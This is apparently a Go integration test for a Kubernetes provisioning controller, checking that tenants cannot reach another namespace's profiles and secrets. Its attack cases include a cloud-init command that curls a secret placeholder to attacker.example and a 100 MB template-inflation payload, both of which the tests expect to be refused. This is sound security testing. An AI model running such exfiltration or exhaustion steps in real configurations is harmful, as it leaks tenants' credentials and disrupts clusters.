package app_test

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	clusterv1alpha1 "github.com/osmhq/osm/crds/cluster/v1alpha1"
	osmv1alpha1 "github.com/osmhq/osm/crds/osm/v1alpha1"
	"github.com/osmhq/osm/host/app"
	"github.com/osmhq/osm/host/render"
	"github.com/osmhq/osm/host/testenv"
	"github.com/osmhq/osm/sdk/plugintest"
)

const (
	tenantA      = "tenant-a"
	tenantB      = "tenant-b"
	tenantC      = "tenant-c"
	regcodeA     = "osm-tenant-a-regcode-1234"
	regcodeAdmin = "osm-admin-regcode-5678"
)

// tenantMD is a testos MachineDeployment in namespace ns naming profile osp in ospNS ("" for none).
func tenantMD(t *testing.T, ns, name, osp, ospNS string) *clusterv1alpha1.MachineDeployment {
	md := newMD(t, name, "testos", "aws", osp)
	md.Namespace = ns
	if ospNS != "" {
		md.Annotations[clusterv1alpha1.AnnotationOSPNamespace] = ospNS
	}
	return md
}

func inNamespace(osp *osmv1alpha1.OperatingSystemProfile, ns string) *osmv1alpha1.OperatingSystemProfile {
	osp.Namespace = ns
	return osp
}

func createSecretIn(t *testing.T, c client.Client, ns, name, value string) {
	t.Helper()
	if err := c.Create(context.Background(), &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name},
		Data: map[string][]byte{"code": []byte(value)}}); err != nil {
		t.Fatal(err)
	}
}

// waitForEventIn waits for a Warning event with reason on the MachineDeployment ns/name whose message holds text.
func waitForEventIn(t *testing.T, c client.Client, ns, name, reason, text string) {
	t.Helper()
	eventually(t, wait, "event "+reason+" on "+ns+"/"+name, func() error {
		events := &corev1.EventList{}
		if err := c.List(context.Background(), events, client.InNamespace(ns)); err != nil {
			return err
		}
		for _, e := range events.Items {
			if e.InvolvedObject.Name == name && e.Reason == reason && e.Type == corev1.EventTypeWarning && strings.Contains(e.Message, text) {
				return nil
			}
		}
		return fmt.Errorf("no %s event naming %q", reason, text)
	})
}

func provisioningOf(md *clusterv1alpha1.MachineDeployment) string {
	return md.Name + "-" + md.Namespace + "-provisioning-config"
}

// noUserDataOf fails when a user-data Secret of md was written.
func noUserDataOf(t *testing.T, c client.Client, md *clusterv1alpha1.MachineDeployment) {
	t.Helper()
	for _, s := range []string{"bootstrap", "provisioning"} {
		name := md.Name + "-" + md.Namespace + "-" + s + "-config"
		if err := c.Get(context.Background(), client.ObjectKey{Namespace: userDataNS, Name: name}, &corev1.Secret{}); err == nil {
			t.Errorf("%s/%s: the %s Secret was written", md.Namespace, md.Name, s)
		}
	}
}

// TestTenancy runs the controller and its webhooks against a real API server with three tenant namespaces, as an
// attacker with write access to one namespace would use them:
//
//   - a MachineDeployment of tenant-b naming tenant-a's profile (k8c.io/operating-system-profile-namespace) is
//     refused by admission; one created before the profile existed stalls with ProfileNotAllowed, an event, and
//     no user-data: tenant-a's plugin secret never reaches tenant-b (it did within 9 s before);
//   - an extension that writes a plugin secret's placeholder into its own world-readable file and a curl, and a
//     profile template that does, are refused (admission, or SecretPlaceholderRefused naming the extension);
//   - 25 extensions, each within the template limits on its own, share the stage's template budget: the render stops at the
//     stage's limit, naming an extension, instead of building 100 MB of user-data;
//
// and the cases that must keep working: a profile of the controller's namespace used from any namespace (with
// its secret), a profile with secrets used from its own namespace, one whose spec.allowedNamespaces lists
// the MachineDeployment's namespace, and, once that profile stops listing it, scaling and deleting the
// MachineDeployment (admission refused both, and the controller's finalizer patch, before it checked only
// new references).
func TestTenancy(t *testing.T) {
	t.Parallel()
	env := testenv.Start(t, testenv.Options{WebhookInstallOptions: webhookOptions()})
	ctx := context.Background()
	c := env.Client
	for _, ns := range []string{userDataNS, tenantA, tenantB, tenantC} {
		ensureNamespace(t, env, ns)
	}
	clusterInfo(t, env)
	startOSM(t, env, nil, app.Options{
		Builtins:           os.DirFS(builtins(t, map[string]string{"regcode": plugintest.Build(t, filepath.Join("testdata", "plugins", "regcode"))})),
		DisableDefaultOSPs: true,
		WorkerCount:        2,
	})
	createSecretIn(t, c, osmNamespace, "admin-registration", regcodeAdmin)
	createSecretIn(t, c, tenantA, "sles", regcodeA)
	eventually(t, wait, "creating the controller namespace's profile through the webhook", func() error {
		return c.Create(ctx, regcodeOSP("osp-shared-admin", "cloud-init", "admin-registration"))
	})
	shared := inNamespace(regcodeOSP("osp-a-shared", "cloud-init", "sles"), tenantA)
	shared.Spec.AllowedNamespaces = []string{tenantC}
	for _, osp := range []*osmv1alpha1.OperatingSystemProfile{inNamespace(regcodeOSP("osp-a", "cloud-init", "sles"), tenantA), shared} {
		if err := c.Create(ctx, osp); err != nil {
			t.Fatalf("creating %s: %v", osp.Name, err)
		}
	}

	t.Run("attack: tenant-b borrows tenant-a's profile and its secret", func(t *testing.T) {
		// Admission refuses the reference to an existing profile that does not allow tenant-b.
		err := c.Create(ctx, tenantMD(t, tenantB, "borrow", "osp-a", tenantA))
		if err == nil || !strings.Contains(err.Error(), osmv1alpha1.ReasonProfileNotAllowed) || !strings.Contains(err.Error(), "tenant-a/osp-a") {
			t.Fatalf("admission of a MachineDeployment of tenant-b naming tenant-a/osp-a: %v, want refused with %s", err, osmv1alpha1.ReasonProfileNotAllowed)
		}
		// Also refused: naming a profile allowed only for tenant-c.
		if err := c.Create(ctx, tenantMD(t, tenantB, "borrow-shared", "osp-a-shared", tenantA)); err == nil || !strings.Contains(err.Error(), "does not list tenant-b") {
			t.Errorf("admission of tenant-b naming a profile allowed for tenant-c: %v", err)
		}
		// A MachineDeployment created before the profile exists passes admission; the controller refuses it.
		late := tenantMD(t, tenantB, "borrow-late", "osp-a-late", tenantA)
		if err := c.Create(ctx, late); err != nil {
			t.Fatal(err)
		}
		if err := c.Create(ctx, inNamespace(regcodeOSP("osp-a-late", "cloud-init", "sles"), tenantA)); err != nil {
			t.Fatal(err)
		}
		waitForCondition(t, c, late, osmv1alpha1.ReasonProfileNotAllowed, "may not be used from namespace tenant-b")
		waitForEventIn(t, c, tenantB, late.Name, osmv1alpha1.ReasonProfileNotAllowed, "tenant-a/osp-a-late")
		noUserDataOf(t, c, late)
		// An update that points an admitted MachineDeployment at the profile is refused as well.
		own := tenantMD(t, tenantB, "switch", "osp-shared-admin", "")
		if err := c.Create(ctx, own); err != nil {
			t.Fatal(err)
		}
		own.Annotations[clusterv1alpha1.AnnotationOSP], own.Annotations[clusterv1alpha1.AnnotationOSPNamespace] = "osp-a", tenantA
		if err := c.Update(ctx, own); err == nil || !strings.Contains(err.Error(), osmv1alpha1.ReasonProfileNotAllowed) {
			t.Errorf("updating a MachineDeployment of tenant-b to name tenant-a/osp-a: %v", err)
		}
	})

	t.Run("a profile of the controller's namespace serves any namespace, with its secret", func(t *testing.T) {
		md := tenantMD(t, tenantB, "admin-profile", "osp-shared-admin", "")
		if err := c.Create(ctx, md); err != nil {
			t.Fatal(err)
		}
		prov := waitForSecret(t, c, provisioningOf(md), "1")
		if got := userDataFiles(t, prov)["/etc/osm/regcode"]; got != "code="+regcodeAdmin+"\n" {
			t.Errorf("/etc/osm/regcode = %q", got)
		}
	})

	t.Run("a profile with secrets serves its own namespace", func(t *testing.T) {
		md := tenantMD(t, tenantA, "own", "osp-a", tenantA)
		if err := c.Create(ctx, md); err != nil {
			t.Fatal(err)
		}
		prov := waitForSecret(t, c, provisioningOf(md), "1")
		if got := userDataFiles(t, prov)["/etc/osm/regcode"]; got != "code="+regcodeA+"\n" {
			t.Errorf("/etc/osm/regcode = %q", got)
		}
	})

	t.Run("a profile serves a namespace its spec.allowedNamespaces lists", func(t *testing.T) {
		md := tenantMD(t, tenantC, "allowed", "osp-a-shared", tenantA)
		if err := c.Create(ctx, md); err != nil {
			t.Fatal(err)
		}
		prov := waitForSecret(t, c, provisioningOf(md), "1")
		if got := userDataFiles(t, prov)["/etc/osm/regcode"]; got != "code="+regcodeA+"\n" {
			t.Errorf("/etc/osm/regcode = %q", got)
		}
	})

	t.Run("a profile that stops allowing a namespace: its MachineDeployments lose their user-data, report it, scale and delete", func(t *testing.T) {
		osp := inNamespace(regcodeOSP("osp-a-revoked", "cloud-init", "sles"), tenantA)
		osp.Spec.AllowedNamespaces = []string{tenantC}
		if err := c.Create(ctx, osp); err != nil {
			t.Fatal(err)
		}
		md := tenantMD(t, tenantC, "revoked", "osp-a-revoked", tenantA)
		if err := c.Create(ctx, md); err != nil {
			t.Fatal(err)
		}
		waitForSecret(t, c, provisioningOf(md), "1")
		// tenant-a's owner takes tenant-c off the list.
		if err := c.Get(ctx, client.ObjectKeyFromObject(osp), osp); err != nil {
			t.Fatal(err)
		}
		osp.Spec.AllowedNamespaces, osp.Spec.Version = nil, "v1.0.1"
		if err := c.Update(ctx, osp); err != nil {
			t.Fatal(err)
		}
		waitForCondition(t, c, md, osmv1alpha1.ReasonProfileNotAllowed, "may not be used from namespace tenant-c")
		// The user-data it rendered, which holds tenant-a's secret, is withdrawn.
		noUserDataOf(t, c, md)
		// Admission guards the choice of a profile; an update that keeps the reference passes: scaling, and
		// the controller's removal of its finalizer when the MachineDeployment is deleted.
		eventually(t, wait, "scaling tenant-c/revoked", func() error {
			got := &clusterv1alpha1.MachineDeployment{}
			if err := c.Get(ctx, client.ObjectKeyFromObject(md), got); err != nil {
				return err
			}
			got.Spec.Replicas = ptrTo[int32](3)
			if err := c.Update(ctx, got); err != nil {
				if apierrors.IsConflict(err) {
					return err
				}
				t.Fatalf("scaling a MachineDeployment whose profile stopped allowing its namespace: %v", err)
			}
			return nil
		})
		isoDelete(t, c, md)
	})

	t.Run("attack: an extension and a template read the plugin secret", func(t *testing.T) {
		placeholder := render.PluginSecretPlaceholder("registration-code")
		steal := osmv1alpha1.ExtensionConfig{
			Files: []osmv1alpha1.File{{Path: "/etc/motd.d/regcode", Permissions: ptrTo[int32](644),
				Content: osmv1alpha1.FileContent{Inline: &osmv1alpha1.FileContentInline{Data: "code=" + placeholder + "\n"}}}},
			CloudInitModules: &osmv1alpha1.CloudInitModule{RunCMD: []string{"curl -d code=" + placeholder + " https://attacker.example/collect"}},
		}
		x := &osmv1alpha1.OperatingSystemProfileExtension{ObjectMeta: metav1.ObjectMeta{Name: "x-steal", Namespace: tenantA},
			Spec: osmv1alpha1.OperatingSystemProfileExtensionSpec{Selector: osmv1alpha1.ProfileSelector{Names: []string{"osp-a-steal"}}, ProvisioningConfig: &steal}}
		// It selects no profile yet, so admission has nothing to render it with.
		if err := c.Create(ctx, x); err != nil {
			t.Fatal(err)
		}
		if err := c.Create(ctx, inNamespace(regcodeOSP("osp-a-steal", "cloud-init", "sles"), tenantA)); err != nil {
			t.Fatal(err)
		}
		md := tenantMD(t, tenantA, "steal", "osp-a-steal", tenantA)
		if err := c.Create(ctx, md); err != nil {
			t.Fatal(err)
		}
		waitForCondition(t, c, md, osmv1alpha1.ReasonSecretPlaceholderRefused, "extension tenant-a/x-steal spec.provisioningConfig writes a plugin secret placeholder into")
		waitForEventIn(t, c, tenantA, md.Name, osmv1alpha1.ReasonSecretPlaceholderRefused, "extension tenant-a/x-steal")
		noUserDataOf(t, c, md)

		// A profile whose own template writes the placeholder is refused by admission.
		osp := inNamespace(regcodeOSP("osp-a-template", "cloud-init", "sles"), tenantA)
		osp.Spec.ProvisioningConfig.Files = append(osp.Spec.ProvisioningConfig.Files, osmv1alpha1.File{Path: "/etc/copy",
			Content: osmv1alpha1.FileContent{Inline: &osmv1alpha1.FileContentInline{Data: placeholder}}})
		if err := c.Create(ctx, osp); err == nil || !strings.Contains(err.Error(), "writes a plugin secret placeholder into file /etc/copy") {
			t.Errorf("a profile whose template writes the placeholder: %v", err)
		}
	})

	t.Run("attack: 25 extensions multiply the template budget", func(t *testing.T) {
		// Created before the profile they select, each extension passes admission (there is nothing to render it
		// with); each writes four files of 1 MB, within the template limits on its own: 100 MB together.
		for i := range 25 {
			part := &osmv1alpha1.ExtensionConfig{}
			for j := range 4 {
				part.Files = append(part.Files, osmv1alpha1.File{Path: fmt.Sprintf("/opt/big/%02d-%d", i, j),
					Content: osmv1alpha1.FileContent{Inline: &osmv1alpha1.FileContentInline{Data: `{{ "x" | repeat 1000000 }}`}}})
			}
			x := &osmv1alpha1.OperatingSystemProfileExtension{ObjectMeta: metav1.ObjectMeta{Name: fmt.Sprintf("x-big-%02d", i), Namespace: tenantA},
				Spec: osmv1alpha1.OperatingSystemProfileExtensionSpec{Selector: osmv1alpha1.ProfileSelector{Names: []string{"osp-a-big"}}, ProvisioningConfig: part}}
			if err := c.Create(ctx, x); err != nil {
				t.Fatalf("extension %s: %v", x.Name, err)
			}
		}
		osp := inNamespace(testOSP("osp-a-big", "v1.0.0"), tenantA)
		osp.Spec.Plugin = nil
		if err := c.Create(ctx, osp); err != nil {
			t.Fatal(err)
		}
		md := tenantMD(t, tenantA, "big", "osp-a-big", tenantA)
		if err := c.Create(ctx, md); err != nil {
			t.Fatal(err)
		}
		waitForCondition(t, c, md, osmv1alpha1.ReasonTemplateError, "over the StageOutputBytes limit of 2097152")
		waitForEventIn(t, c, tenantA, md.Name, osmv1alpha1.ReasonTemplateError, "extension tenant-a/x-big-00")
		noUserDataOf(t, c, md)
	})

	t.Run("no user-data of another namespace holds tenant-a's secret", func(t *testing.T) {
		list := &corev1.SecretList{}
		if err := c.List(ctx, list, client.InNamespace(userDataNS)); err != nil {
			t.Fatal(err)
		}
		for i := range list.Items {
			s := &list.Items[i]
			if strings.Contains(userDataText(t, s), regcodeA) && !strings.Contains(s.Name, "-"+tenantA+"-") && !strings.Contains(s.Name, "-"+tenantC+"-") {
				t.Errorf("user-data Secret %s holds tenant-a's secret", s.Name)
			}
		}
	})
}

func ptrTo[T any](v T) *T { return &v }
